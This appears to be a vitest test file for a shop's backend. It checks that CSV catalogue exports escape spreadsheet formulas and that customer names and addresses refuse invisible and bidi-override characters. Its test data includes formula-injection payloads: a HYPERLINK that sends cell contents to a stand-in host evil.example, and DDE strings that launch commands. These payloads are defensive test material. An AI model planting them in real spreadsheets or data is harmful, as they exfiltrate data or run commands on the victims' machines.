import { asc, eq } from 'drizzle-orm'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import type { ImportPreview } from '../../worker/contract/admin'
import type { Product } from '../../worker/contract/catalogue'
import type { ErrorBody } from '../../worker/contract/common'
import { addressField, customerNameField, hasHiddenCharacters } from '../../worker/contract/fields'
import type { SavedEnquiry } from '../../worker/contract/orders'
import { products } from '../../worker/db/schema'
import { escapeFormula, unescapeFormula } from '../../worker/lib/csv-cells'
import { auth } from '../helpers/admin'
import { apiApp } from '../helpers/api-app'
import { bigEnoughCart, catalogueOf, enquiryFor, post } from '../helpers/enquiry'
import { API } from '../helpers/test-app'

const t = apiApp({ seller: true })
let catalogue: Product[]

beforeAll(async () => {
  catalogue = await catalogueOf(t)
})

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+91 cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "'=already quoted",
]

describe('CSV formula injection', () => {
  it('product names that are spreadsheet formulas are exported as text, and importing the export changes nothing', async () => {
    const rows = await t.db.select().from(products).orderBy(asc(products.id)).limit(FORMULAS.length)
    for (const [i, row] of rows.entries()) {
      await t.db
        .update(products)
        .set({ name: FORMULAS[i]!, tamilName: i === 0 ? '=1+1 மத்தாப்பு' : row.tamilName })
        .where(eq(products.id, row.id))
    }
    const res = await t.request(`${API}/admin/catalogue/export.csv`, { headers: auth(t.seller) })
    const csv = (await res.text()).replace(/^\uFEFF/, '')
    const cells = Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat()
    // No cell a spreadsheet would run: every formula starts with an apostrophe.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([])
    for (const f of FORMULAS) expect(cells).toContain(`'${f}`)
    expect(cells).toContain("'=1+1 மத்தாப்பு")

    const again = await t.json<{ data: ImportPreview }>(`${API}/admin/catalogue/import?apply=0`, {
      method: 'POST',
      headers: { 'Content-Type': 'text/csv', ...auth(t.seller) },
      body: csv,
    })
    expect(again.status).toBe(200)
    expect(again.body.data.errors).toEqual([])
    expect(again.body.data.products.updated).toEqual([])
    expect(again.body.data.products.created).toEqual([])
    expect(again.body.data.categories.updated).toEqual([])
  })

  it('escaping and unescaping are exact inverses, and harmless cells are left alone', () => {
    for (const cell of [
      ...FORMULAS,
      "''=x",
      "'plain",
      '',
      'Sparklers 10 cm',
      '250.00',
      "don't",
      '\t=tab',
      '\r=cr',
    ]) {
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell)
    }
    expect(escapeFormula('Sparklers 10 cm')).toBe('Sparklers 10 cm')
    expect(escapeFormula("'plain")).toBe("'plain")
    expect(escapeFormula('\t=tab')).toBe("'\t=tab")
  })
})

const HIDDEN = {
  'zero-width space': '\u200b',
  'zero-width joiner': '\u200d',
  'left-to-right mark': '\u200e',
  'right-to-left override': '\u202e',
  'first strong isolate': '\u2068',
  'byte order mark': '\ufeff',
  'soft hyphen': '\u00ad',
  'line separator': '\u2028',
  'paragraph separator': '\u2029',
  'private use': '\ue000',
  unassigned: '\u0378',
  'lone surrogate': '\ud800',
  'escape (C0 control)': '\u001b',
  'next line (C1 control)': '\u0085',
  'carriage return': '\r',
}

describe('invisible and direction-changing characters', () => {
  for (const [name, ch] of Object.entries(HIDDEN)) {
    it(`a name or address hiding a ${name} is refused`, () => {
      expect(customerNameField.safeParse(`Kar${ch}thik`).success).toBe(false)
      expect(addressField.safeParse(`12, North${ch} Car Street`).success).toBe(false)
    })
  }

  it('an enquiry whose name reverses with a bidi override is refused with 400 and the field named', async () => {
    const res = await t.json<ErrorBody>(
      `${API}/order/save`,
      post(enquiryFor(bigEnoughCart(catalogue), { customer_name: 'Karthik \u202eajaR' })),
    )
    expect(res.status).toBe(400)
    expect(res.body.error.issues?.[0]?.path).toBe('customer_name')
  })

  it('Tamil names with vowel signs and virama, and Tamil addresses with newlines, are kept exactly', async () => {
    const names = ['சரவணன்', 'கார்த்திக் ராஜா', 'ஸ்ரீ லக்ஷ்மி', 'Meena சுப்பிரமணியம்']
    for (const n of names) expect(customerNameField.safeParse(n).success, n).toBe(true)
    const address = 'சிவகாசி, விருதுநகர் மாவட்டம்\n12, கீழ ரத வீதி'
    expect(hasHiddenCharacters(address, true)).toBe(false)
    const res = await t.json<{ data: SavedEnquiry }>(
      `${API}/order/save`,
      post(enquiryFor(bigEnoughCart(catalogue), { customer_name: 'சரவணன்', address, city: 'சிவகாசி' })),
    )
    expect(res.status).toBe(201)
    const printed = await t.json<{ data: { customer_name: string; address: string } }>(
      `${API}/order/public/print/get/${res.body.data.order_id}`,
    )
    expect(printed.body.data.customer_name).toBe('சரவணன்')
    expect(printed.body.data.address).toBe(address)
  })
})
